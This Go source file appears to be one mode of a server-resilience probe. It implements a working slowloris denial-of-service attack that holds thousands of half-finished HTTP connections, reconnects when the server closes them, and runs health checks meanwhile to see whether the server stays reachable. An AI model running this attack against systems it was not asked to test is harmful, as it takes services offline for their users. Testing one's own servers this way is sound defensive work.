package main

import (
	"context"
	"flag"
	"fmt"
	"net"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"time"
)

// The slowloris probe: HTTP connections that send a request line and then
// one header line every 2 s, never finishing. Each holds a descriptor of
// the server's; issue 9 ran the server under `ulimit -n 4096` and opened
// 4300, and health checks failed while they were held. Meanwhile -checks
// health checks, spaced over the run, say whether anyone else still gets
// in.

type slowlorisFigures struct {
	Attackers    int            `json:"attackers"`
	SameSrc      bool           `json:"same_src"`
	Reconnect    bool           `json:"reconnect"`
	Opened       int64          `json:"connections_opened"`
	DialErrors   map[string]int `json:"dial_errors,omitempty"`
	HeldPeak     int64          `json:"held_peak"`
	HeldAtEnd    int64          `json:"held_at_end"`
	HeaderLines  int64          `json:"header_lines_sent"`
	Closed       int64          `json:"closed_by_server"`
	ClosedHow    map[string]int `json:"closed_how,omitempty"`
	FirstCloseS  float64        `json:"first_close_s,omitempty"`
	Checks       int            `json:"checks"`
	ChecksOK     int            `json:"checks_ok"`
	CheckResults []checkResult  `json:"check_results"`
	CheckLatency summary        `json:"check_latency"`
	ElapsedS     float64        `json:"elapsed_s"`
}

type checkResult struct {
	AtS   float64 `json:"at_s"`
	OK    bool    `json:"ok"`
	Ms    float64 `json:"ms"`
	Error string  `json:"error,omitempty"`
}

type lorisState struct {
	start              time.Time
	opened, held, peak atomic.Int64
	lines, closed      atomic.Int64
	firstClose         atomic.Int64
	dialErrs, how      counts
}

func setupSlowloris(fs *flag.FlagSet) runFunc {
	n := fs.Int("n", 4300, "attacking connections")
	interval := fs.Duration("interval", 2*time.Second, "one more header line this often")
	checks := fs.Int("checks", 8, "GET /health checks from 127.0.0.1, spaced over the run")
	checkTimeout := fs.Duration("check-timeout", 2*time.Second, "timeout of one health check")
	sameSrc := fs.Bool("same-src", false, "attack from 127.0.0.1 too, the health checks' address (overrides -src)")
	reconnect := fs.Bool("reconnect", true, "dial again (after -reconnect-delay) when the server closes an attacking connection, so that N stay open")
	delay := fs.Duration("reconnect-delay", time.Second, "pause before such a reconnect")
	conc := fs.Int("dial-concurrency", 256, "connection setups in flight")
	return func(ctx context.Context, p *prober) (any, []figure) {
		src := p.src
		if *sameSrc {
			src = &srcPool{ips: []net.IP{net.IPv4(127, 0, 0, 1).To4()}}
		}
		u, _ := url.Parse(p.cfg.base)
		st := &lorisState{start: time.Now()}
		until := st.start.Add(p.cfg.duration)
		p.logf("%d connections sending a header line every %s for %s (%d health checks)", *n, *interval, p.cfg.duration, *checks)
		sem := make(chan struct{}, *conc)
		var wg sync.WaitGroup
		for i := range *n {
			wg.Add(1)
			go func() {
				defer wg.Done()
				st.attack(ctx, src, u.Host, i, until, *interval, *reconnect, *delay, sem)
			}()
		}
		var results []checkResult
		var lat latencies
		for k := range *checks {
			at := st.start.Add(time.Duration((float64(k) + 0.5) * float64(p.cfg.duration) / float64(*checks)))
			if !sleep(ctx, time.Until(at)) {
				break
			}
			d, err := p.healthOnce(ctx, *checkTimeout)
			r := checkResult{AtS: round(time.Since(st.start).Seconds(), 2), OK: err == nil, Ms: round(float64(d)/1e6, 2)}
			if err != nil {
				r.Error = shortErr(err)
			} else {
				lat.add(d)
			}
			results = append(results, r)
			p.logf("health check %d: ok=%v in %.0f ms %s; attackers held %d, opened %d, closed by the server %d", k+1, r.OK, r.Ms, r.Error, st.held.Load(), st.opened.Load(), st.closed.Load())
		}
		held := st.held.Load()
		wg.Wait()
		f := slowlorisFigures{
			Attackers: *n, SameSrc: *sameSrc, Reconnect: *reconnect, Opened: st.opened.Load(), DialErrors: st.dialErrs.snapshot(),
			HeldPeak: st.peak.Load(), HeldAtEnd: held, HeaderLines: st.lines.Load(), Closed: st.closed.Load(), ClosedHow: st.how.snapshot(),
			Checks: len(results), CheckResults: results, CheckLatency: lat.summary(), ElapsedS: round(time.Since(st.start).Seconds(), 2),
		}
		for _, r := range results {
			if r.OK {
				f.ChecksOK++
			}
		}
		if ns := st.firstClose.Load(); ns > 0 {
			f.FirstCloseS = round(float64(ns)/1e9, 2)
		}
		p.logf("health checks ok %d/%d; attackers opened %d (dial errors: %s), held at most %d, closed by the server %d (%s)",
			f.ChecksOK, f.Checks, f.Opened, countsText(f.DialErrors), f.HeldPeak, f.Closed, countsText(f.ClosedHow))
		return f, []figure{
			{"health checks ok", fmt.Sprintf("%d/%d", f.ChecksOK, f.Checks)},
			{"attacking connections opened / held at most / closed by the server", fmt.Sprintf("%d / %d / %d", f.Opened, f.HeldPeak, f.Closed)},
		}
	}
}

// attack holds one slowloris connection (and, with reconnect, its
// successors) until the run ends.
func (st *lorisState) attack(ctx context.Context, src *srcPool, hostport string, i int, until time.Time, interval time.Duration, reconnect bool, delay time.Duration, sem chan struct{}) {
	buf := make([]byte, 256)
	for time.Now().Before(until) && ctx.Err() == nil {
		sem <- struct{}{}
		dctx, cancel := context.WithTimeout(ctx, 5*time.Second)
		c, err := src.dial(dctx, "tcp", hostport)
		cancel()
		<-sem
		if err != nil {
			st.dialErrs.addErr(err)
			if !reconnect || !sleep(ctx, delay) {
				return
			}
			continue
		}
		st.opened.Add(1)
		if h := st.held.Add(1); h > st.peak.Load() {
			st.peak.Store(h) // a racy maximum is close enough for a peak
		}
		how := ""
		if _, err := fmt.Fprintf(c, "GET /health HTTP/1.1\r\nHost: x\r\n"); err != nil {
			how = "write: " + shortErr(err)
		}
		for line := 0; how == ""; line++ {
			c.SetReadDeadline(minTime(time.Now().Add(interval), until))
			n, err := c.Read(buf)
			if n > 0 { // the server answered (408, 400, ...): it is ending the request
				first, _, _ := strings.Cut(string(buf[:n]), "\r\n")
				how = "answered " + first
				break
			}
			if ne, ok := err.(net.Error); ok && ne.Timeout() {
				if !time.Now().Before(until) || ctx.Err() != nil {
					break // our end
				}
				if _, err := fmt.Fprintf(c, "X-Probe-%d: %d\r\n", line, i); err != nil {
					how = "write: " + shortErr(err)
					break
				}
				st.lines.Add(1)
				continue
			}
			how = shortErr(err)
		}
		c.Close()
		st.held.Add(-1)
		if how == "" {
			return
		}
		st.closed.Add(1)
		st.how.add(how, 1)
		st.firstClose.CompareAndSwap(0, int64(time.Since(st.start)))
		if !reconnect || !sleep(ctx, delay) {
			return
		}
	}
}

func minTime(a, b time.Time) time.Time {
	if a.Before(b) {
		return a
	}
	return b
}
